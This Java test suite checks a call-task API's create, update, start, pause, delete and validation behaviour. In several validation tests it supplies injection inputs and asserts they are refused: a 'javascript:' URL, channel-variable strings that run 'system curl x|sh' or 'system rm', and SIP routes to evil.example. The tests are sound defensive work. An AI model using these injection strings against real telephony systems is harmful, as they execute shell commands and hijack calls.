package io.calltask.task;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import tools.jackson.databind.JsonNode;

import io.calltask.testing.ApiClient;

import static org.assertj.core.api.Assertions.assertThat;

/** Spec 2.2-2.4: creating, changing, starting, pausing and deleting tasks, and every 422. */
class TaskWriteIntegrationTests extends TaskApiSupport {

	@Test
	void createAppliesDefaultsAndReturns201WithTheListShape() {
		ApiClient.Response r = api.post(userPath("/task"), Map.of("name", "默认任务"));
		assertThat(r.status()).isEqualTo(201);
		assertThat(r.json().get("code").intValue()).isEqualTo(201);
		JsonNode t = r.data();
		assertThat(t.get("enable").booleanValue()).isFalse();
		assertThat(t.get("status").intValue()).isEqualTo(1);
		assertThat(t.get("sort").intValue()).isEqualTo(1);
		assertThat(t.get("maximumcall").intValue()).isEqualTo(1);
		assertThat(t.get("destination_dialplan").stringValue()).isEqualTo("XML");
		assertThat(t.get("destination_context").stringValue()).isEqualTo("default");
		assertThat(t.get("_originate_timeout").intValue()).isEqualTo(60);
		assertThat(t.get("user_id").stringValue()).isEqualTo(userId);
		assertThat(t.get("deleted_at").isNull()).isTrue();
		assertThat(t.get("new_task_extra").get("pop_mode").intValue()).isEqualTo(1);
		assertThat(t.get("new_task_extra").get("holiday").size()).isZero();
		assertThat(t.get("task_extras").get("work_week").size()).isEqualTo(7);
		assertThat(t.get("new_task_extra").get("work_hour").toString())
			.isEqualTo("[{\"wday\":\"-1\",\"begin\":\"09:00\",\"end\":\"18:00\"}]");
		assertThat(get(t.get("uuid").stringValue())).isEqualTo(t);
	}

	@Test
	void theSeedsLocalHoursCompressToItsRemoteHours() {
		JsonNode t = createTask(body("name", "seed", "work_week", List.of(1, 2, 3, 4, 5, 6, 0), "work_hour",
				seedWorkHours()));
		assertThat(t.get("new_task_extra").get("work_hour").toString())
			.isEqualTo("[{\"wday\":\"-1\",\"begin\":\"03:00\",\"end\":\"19:00\"},"
					+ "{\"wday\":1,\"begin\":\"20:00\",\"end\":\"23:30\"},"
					+ "{\"wday\":3,\"begin\":\"20:00\",\"end\":\"23:30\"},"
					+ "{\"wday\":4,\"begin\":\"20:00\",\"end\":\"23:30\"}]");
		assertThat(t.get("task_extras").get("work_hour").get(0).toString())
			.isEqualTo("{\"end\":\"19:00\",\"wday\":1,\"begin\":\"03:00\"}");
		assertThat(t.get("new_task_extra").get("work_week").toString()).isEqualTo("[1,2,3,4,5,6,0]");
	}

	@Test
	void everyInvalidFieldIsNamedAndNothingIsStored() {
		Map<String, Object> bad = body("name", "x".repeat(5000), "maximumcall", 0, "cps", 1001, "pop_mode", 3,
				"call_notify_type", 3, "end_action", 7, "call_notify_url", "javascript:alert(1)", "start_time",
				"2024-13-01 00:00:00", "line", "not-an-array", "enable", "yes", "sort", "1", "is_top", 2,
				"_originate_timeout", 0, "originate_variables", "{a=b}\napi originate x");
		ApiClient.Response r = api.post(userPath("/task"), bad);
		for (String field : bad.keySet()) {
			assertThat(r.json().get("errors").has(field)).as(field + " in " + r.text()).isTrue();
		}
		assertError(r, 422);
		assertThat(total("")).isZero();
	}

	@Test
	void wrongJsonTypesAre422() {
		List<Map<String, Object>> bodies = List.of(body("name", 123), body("name", "t", "maximumcall", "10"),
				body("name", "t", "maximumcall", 1.5), body("name", "t", "cps", true),
				body("name", "t", "remark", 5), body("name", "t", "work_week", "1,2"),
				body("name", "t", "work_hour", Map.of("wday", 1)), body("name", "t", "holiday", "none"),
				body("name", "t", "destination_extension", List.of(1)), body("name", "t", "caller_line_id", 42));
		for (Map<String, Object> b : bodies) {
			ApiClient.Response r = api.post(userPath("/task"), b);
			assertError(r, 422);
		}
		assertThat(total("")).isZero();
	}

	@Test
	void malformedBodiesAreRejectedInTheEnvelope() {
		assertInvalid(api.raw("POST", userPath("/task"), "application/json", "{\"name\": \"x\""), "body");
		assertInvalid(api.raw("POST", userPath("/task"), "application/json", "\"just a string\""), "body");
		assertInvalid(api.raw("POST", userPath("/task"), "application/json", ""), "body");
		assertError(api.raw("POST", userPath("/task"), "text/plain", "{\"name\":\"x\"}"), 415);
		assertError(api.raw("POST", userPath("/task"), null, "{\"name\":\"x\"}"), 415);
		assertError(api.raw("POST", userPath("/task"), "application/json", "{\"name\":\"" + "y".repeat(2_000_000) + "\"}"), 413);
		assertThat(total("")).isZero();
	}

	@Test
	void unknownFieldsAreIgnored() {
		JsonNode t = createTask(body("name", "有多余字段", "no_such_field", 1, "status", 2, "uuid", "forged"));
		assertThat(t.get("status").intValue()).isEqualTo(1);
		assertThat(t.get("uuid").stringValue()).isNotEqualTo("forged");
	}

	@Test
	void validationRulesOfTheContract() {
		assertInvalid(api.post(userPath("/task"), body("name", "t", "start_time", "2025-01-02 00:00:00", "stop_time",
				"2025-01-01 00:00:00")), "stop_time");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "start_time", "2025-01-01")), "start_time");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "work_week", List.of(1, 1), "work_hour",
				List.of(hour(1, "09:00", "10:00")))), "work_week");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "work_week", List.of(1), "work_hour",
				List.of(hour(1, "10:00", "09:00")))), "work_hour");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "work_week", List.of(1), "work_hour",
				List.of(hour(1, "24:00", "24:00")))), "work_hour");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "work_week", List.of(7), "work_hour",
				List.of())), "work_week");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "call_stop_notify_url", "ftp://x/y")),
				"call_stop_notify_url");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "originate_variables", "{a=${b}}")),
				"originate_variables");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "originate_variables", "{a=b}}{c=d}")),
				"originate_variables");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "originate_variables", "{a=b\n\nbgapi x=y}")),
				"originate_variables");
		for (String dangerous : new String[] { "{api_on_answer='system curl x|sh'}", "{execute_on_media='system rm'}",
				"{sip_route_uri=sip:x@evil.example}", "{execute_on_media=start_da,api_hangup_hook=x}",
				"{sip_h_X-A=1:_:sofia/gateway/g/1}" }) {
			ApiClient.Response refused = api.post(userPath("/task"), body("name", "t", "originate_variables", dangerous));
			assertInvalid(refused, "originate_variables");
		}
		for (String format : new String[] { "%s@evil.example", "1,2", "9%s|8%s", "x%s", "%s;transport=tcp" }) {
			assertInvalid(api.post(userPath("/task"), body("name", "t", "dial_format", format)), "dial_format");
		}
		ApiClient.Response fine = api.post(userPath("/task"), body("name", "ok", "dial_format", "+86%s",
				"originate_variables", "{execute_on_media='start_da zh',sip_h_X-Customer=42,absolute_codec_string=PCMA}"));
		assertThat(fine.status()).as(fine.text()).isEqualTo(201);
		api.delete(userPath("/task/" + fine.data().get("uuid").asString()));
		assertInvalid(api.post(userPath("/task"), body("name", "t", "dial_time_id", 1, "work_week", List.of(1))),
				"dial_time_id");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "holiday",
				List.of(Map.of("begin", "2025-01-02 00:00:00", "end", "2025-01-01 00:00:00")))), "holiday");
		assertInvalid(api.post(userPath("/task"), body("name", "   ")), "name");
		assertThat(total("")).isZero();

		JsonNode ok = createTask(body("name", "  前后空格  ", "work_week", List.of(), "work_hour", List.of(),
				"holiday", List.of(Map.of("begin", "2025-10-01 00:00:00", "end", "2025-10-08 00:00:00")),
				"call_notify_url", "https://example.com/hook", "end_action", 2, "pop_mode", 0));
		assertThat(ok.get("name").stringValue()).isEqualTo("前后空格");
		assertThat(ok.get("new_task_extra").get("work_hour").size()).isZero();
		assertThat(ok.get("new_task_extra").get("holiday").get(0).get("end").stringValue())
			.isEqualTo("2025-10-08 00:00:00");
		assertThat(ok.get("end_action").intValue()).isEqualTo(2);
	}

	@Test
	void referencesMustBeTheUsersOwn() {
		String otherUser = newUser(api);
		ApiClient.Response foreignLine = api.post("/agent-api/new/user/" + otherUser + "/line", Map.of("name", "别人的线路",
				"gateway", "gw", "node_id", "n1", "cps", 1, "limit", 1));
		String theirLine = foreignLine.data().get("line_id").stringValue();
		long theirGroup = api.post("/agent-api/new/user/" + otherUser + "/group", Map.of("name", "别人的话术"))
			.data()
			.get("id")
			.longValue();

		assertInvalid(api.post(userPath("/task"), body("name", "t", "line", List.of(theirLine))), "line");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "caller_line_id", theirLine)), "caller_line_id");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "destination_extension", theirGroup)),
				"destination_extension");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "auto_recycle_rule_id",
				"00000000-0000-0000-0000-000000000001")), "auto_recycle_rule_id");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "llm_intention_id", 999999999)),
				"llm_intention_id");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "background_id", 999999999)), "background_id");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "dial_time_id", 999999999)), "dial_time_id");
		String mine = createLine("我的线路", 5);
		assertInvalid(api.post(userPath("/task"), body("name", "t", "line", List.of(mine, mine))), "line");
		assertInvalid(api.post(userPath("/task"), body("name", "t", "line", List.of(Map.of("id", mine, "limit", 6)))),
				"line");
		assertThat(total("")).isZero();
	}

	@Test
	void referencedObjectsAreEmbeddedAndGuardedAgainstDeletion() {
		String line = createLine("线路一", 20);
		String line2 = createLine("线路二", 8);
		long group = createGroup("话术A");
		String rule = api.post(userPath("/recycle-rule"), Map.of("name", "未接重呼", "hangup_causes",
				List.of("NO_ANSWER"), "interval_minutes", 30, "max_times", 2)).data().get("id").stringValue();
		long llm = api.post(userPath("/llm-intention"), Map.of("name", "意向", "labels", Map.of("A", "有意向")))
			.data()
			.get("id")
			.longValue();
		long background = api.post(userPath("/background"), Map.of("name", "办公室", "url", "https://cdn.example.com/a.wav"))
			.data()
			.get("id")
			.longValue();

		JsonNode t = createTask(body("name", "全配置", "line", List.of(line, Map.of("id", line2, "limit", 3)),
				"caller_line_id", line, "destination_extension", group, "auto_recycle_rule_id", rule,
				"llm_intention_id", llm, "background_id", background));
		assertThat(t.get("destination_extension").stringValue()).isEqualTo(Long.toString(group));
		assertThat(t.get("group").get("name").stringValue()).isEqualTo("话术A");
		assertThat(t.get("group").get("default").booleanValue()).isFalse();
		assertThat(t.get("caller_line").get("line_id").stringValue()).isEqualTo(line);
		assertThat(t.get("caller_line_id").stringValue()).isEqualTo(line);
		assertThat(t.get("auto_recycle_rule").get("max_times").intValue()).isEqualTo(2);
		assertThat(t.get("auto_recycle_rule_id").stringValue()).isEqualTo(rule);
		assertThat(t.get("llm_intention_config").get("labels").get("A").stringValue()).isEqualTo("有意向");
		assertThat(t.get("llm_intention_id").longValue()).isEqualTo(llm);
		assertThat(t.get("background_id").longValue()).isEqualTo(background);
		assertThat(t.get("background").stringValue()).isEqualTo("https://cdn.example.com/a.wav");
		assertThat(t.get("new_task_extra").get("background").stringValue()).isEqualTo("https://cdn.example.com/a.wav");
		assertThat(t.get("task_extras").get("line").toString()).isEqualTo("[\"" + line + "\",\"" + line2 + "\"]");
		assertThat(t.get("new_task_extra").get("line").toString())
			.isEqualTo("[{\"id\":\"" + line + "\",\"limit\":20},{\"id\":\"" + line2 + "\",\"limit\":3}]");

		String taskId = t.get("uuid").stringValue();
		assertInvalid(api.delete(userPath("/line/" + line2)), "line_id");
		assertError(api.delete(userPath("/group/" + group)), 422);
		assertError(api.delete(userPath("/recycle-rule/" + rule)), 422);
		assertError(api.delete(userPath("/llm-intention/" + llm)), 422);
		assertError(api.delete(userPath("/background/" + background)), 422);
		assertThat(get(taskId).get("new_task_extra").get("line").size()).isEqualTo(2);

		// Set to none, a reference reads as the seed shows an absent one.
		JsonNode cleared = api.put(userPath("/task/" + taskId), body("line", List.of(), "caller_line_id", null,
				"destination_extension", "", "auto_recycle_rule_id", null, "llm_intention_id", 0, "background_id", null))
			.data();
		assertThat(cleared.get("group").isNull()).isTrue();
		assertThat(cleared.get("destination_extension").stringValue()).isEmpty();
		assertThat(cleared.get("caller_line").isNull()).isTrue();
		assertThat(cleared.get("auto_recycle_rule").isNull()).isTrue();
		assertThat(cleared.get("llm_intention_id").intValue()).isZero();
		assertThat(cleared.get("llm_intention_config").isNull()).isTrue();
		assertThat(cleared.get("background").stringValue()).isEmpty();
		assertThat(api.delete(userPath("/line/" + line2)).status()).isEqualTo(200);

		// A deleted task holds nothing.
		api.put(userPath("/task/" + taskId), body("line", List.of(line), "destination_extension", group));
		api.delete(userPath("/task/" + taskId));
		assertThat(api.delete(userPath("/line/" + line)).status()).isEqualTo(200);
		assertThat(api.delete(userPath("/group/" + group)).status()).isEqualTo(200);
	}

	@Test
	void theUsersDefaultGroupIsUsedWhenNoneIsGiven() {
		long group = api.post(userPath("/group"), Map.of("name", "默认话术", "default", true)).data().get("id").longValue();
		JsonNode t = createTask("用默认话术");
		assertThat(t.get("destination_extension").stringValue()).isEqualTo(Long.toString(group));
		assertThat(t.get("group").get("default").booleanValue()).isTrue();
	}

	@Test
	void updateChangesOnlyTheKeysPresent() {
		JsonNode t = createTask(body("name", "原名", "maximumcall", 7, "remark", "备注", "cps", 5, "work_week",
				List.of(1, 2), "work_hour", List.of(hour(1, "09:00", "12:00"), hour(2, "09:00", "12:00"))));
		String id = t.get("uuid").stringValue();
		ApiClient.Response r = api.put(userPath("/task/" + id), Map.of("name", "新名"));
		assertThat(r.status()).as(r.text()).isEqualTo(200);
		JsonNode after = get(id);
		assertThat(after.get("name").stringValue()).isEqualTo("新名");
		assertThat(after.get("new_task_extra").get("name").stringValue()).isEqualTo("新名");
		for (String kept : List.of("maximumcall", "remark", "sort", "call_per_second", "create_datetime", "task_extras")) {
			assertThat(after.get(kept)).as(kept).isEqualTo(t.get(kept));
		}

		// One half of the schedule: the other half is kept and the remote form recomputed.
		JsonNode week = api.put(userPath("/task/" + id), Map.of("work_week", List.of(2))).data();
		assertThat(week.get("task_extras").get("work_hour").size()).isEqualTo(2);
		assertThat(week.get("new_task_extra").get("work_hour").toString())
			.isEqualTo("[{\"wday\":\"-1\",\"begin\":\"09:00\",\"end\":\"12:00\"}]");

		// An invalid update changes nothing, not even the valid keys beside it.
		assertInvalid(api.put(userPath("/task/" + id), body("name", "不该保存", "maximumcall", -1)), "maximumcall");
		assertThat(get(id).get("name").stringValue()).isEqualTo("新名");
		assertInvalid(api.put(userPath("/task/" + id), body("stop_time", "2000-01-01 00:00:00", "start_time",
				"2001-01-01 00:00:00")), "stop_time");
		assertInvalid(api.put(userPath("/task/" + id), body("name", null)), "name");
		assertInvalid(api.raw("PUT", userPath("/task/" + id), "application/json", "[]"), "body");

		// Explicit null resets a field to its default.
		assertThat(api.put(userPath("/task/" + id), body("maximumcall", null)).data().get("maximumcall").intValue())
			.isEqualTo(1);
	}

	@Test
	void startAndPauseAreIdempotentAndMoveTheCounts() {
		String id = createTask("开关").get("uuid").stringValue();
		for (int i = 0; i < 2; i++) {
			ApiClient.Response started = api.post(userPath("/task/" + id + "/start"), Map.of());
			assertThat(started.status()).isEqualTo(200);
			assertThat(started.data().get("enable").booleanValue()).isTrue();
			assertThat(started.data().get("status").intValue()).isEqualTo(3);
		}
		assertThat(total("?status=3")).isEqualTo(1);
		assertThat(total("?status=1")).isZero();
		for (int i = 0; i < 2; i++) {
			assertThat(api.post(userPath("/task/" + id + "/pause"), Map.of()).data().get("enable").booleanValue())
				.isFalse();
		}
		assertThat(total("?status=3")).isZero();
		assertThat(total("?status=1")).isEqualTo(1);
		assertThat(api.put(userPath("/task/" + id), Map.of("enable", true)).data().get("status").intValue())
			.isEqualTo(3);
		assertThat(total("?status=3")).isEqualTo(1);
	}

	@Test
	void deleteIsSoftAndFinal() {
		String id = createTask(body("name", "待删除", "enable", true)).get("uuid").stringValue();
		ApiClient.Response deleted = api.delete(userPath("/task/" + id));
		assertThat(deleted.status()).isEqualTo(200);
		assertThat(deleted.json().get("status").stringValue()).isEqualTo("success");
		assertError(api.get(userPath("/task/" + id + "/edit")), 404);
		assertError(api.delete(userPath("/task/" + id)), 404);
		assertError(api.put(userPath("/task/" + id), Map.of("name", "复活")), 404);
		assertError(api.post(userPath("/task/" + id + "/start"), Map.of()), 404);
		assertThat(total("")).isZero();
		assertThat(total("?status=3")).isZero();
	}

	@Test
	void tasksOfOtherUsersAndAgentsAre404() {
		String id = createTask("私有").get("uuid").stringValue();
		String otherUser = newUser(api);
		String theirPath = "/agent-api/new/user/" + otherUser + "/task/" + id;
		assertError(api.get(theirPath + "/edit"), 404);
		assertError(api.put(theirPath, Map.of("name", "劫持")), 404);
		assertError(api.delete(theirPath), 404);
		assertError(api.post(theirPath + "/start", Map.of()), 404);

		ApiClient stranger = newAgentClient();
		assertError(stranger.get(userPath("/task/" + id + "/edit")), 404);
		assertError(stranger.delete(userPath("/task/" + id)), 404);
		assertError(api.get(userPath("/task/not-a-uuid/edit")), 404);
		assertError(api.get(userPath("/task/00000000-0000-0000-0000-000000000000/edit")), 404);
		assertThat(get(id).get("name").stringValue()).isEqualTo("私有");
	}

	@Test
	void timeGroupsAreCopiedWhenAssignedAndNeverFollowed() {
		ApiClient.Response group = api.post(userPath("/dial-time"), Map.of("name", "工作日", "work_week",
				List.of(1, 2, 3, 4, 5), "work_hour", List.of(hour(1, "09:00", "12:00"), hour(2, "09:00", "12:00"),
						hour(3, "09:00", "12:00"), hour(4, "09:00", "12:00"), hour(5, "09:00", "12:00"))));
		assertThat(group.status()).as(group.text()).isEqualTo(201);
		long groupId = group.data().get("id").longValue();

		JsonNode t = createTask(body("name", "用时间组", "dial_time_id", groupId));
		String id = t.get("uuid").stringValue();
		assertThat(t.get("dial_time_id").longValue()).isEqualTo(groupId);
		assertThat(t.get("task_extras").get("work_week").toString()).isEqualTo("[1,2,3,4,5]");
		String copied = t.get("new_task_extra").get("work_hour").toString();
		assertThat(copied).isEqualTo("[{\"wday\":\"-1\",\"begin\":\"09:00\",\"end\":\"12:00\"}]");

		ApiClient.Response edited = api.put(userPath("/dial-time/" + groupId), Map.of("work_week", List.of(6),
				"work_hour", List.of(hour(6, "10:00", "11:00"))));
		assertThat(edited.status()).as(edited.text()).isEqualTo(200);
		assertThat(get(id).get("new_task_extra").get("work_hour").toString()).isEqualTo(copied);
		assertThat(get(id).get("task_extras").get("work_week").toString()).isEqualTo("[1,2,3,4,5]");

		// Assigning the group again copies its hours as they are now.
		JsonNode again = api.put(userPath("/task/" + id), Map.of("dial_time_id", groupId)).data();
		assertThat(again.get("task_extras").get("work_week").toString()).isEqualTo("[6]");

		assertThat(api.delete(userPath("/dial-time/" + groupId)).status()).isEqualTo(200);
		assertThat(get(id).get("task_extras").get("work_week").toString()).isEqualTo("[6]");

		// Own hours detach the task from the group.
		JsonNode own = api.put(userPath("/task/" + id), Map.of("work_week", List.of(0), "work_hour",
				List.of(hour(0, "08:00", "09:00")))).data();
		assertThat(own.get("dial_time_id").isNull()).isTrue();
	}

}
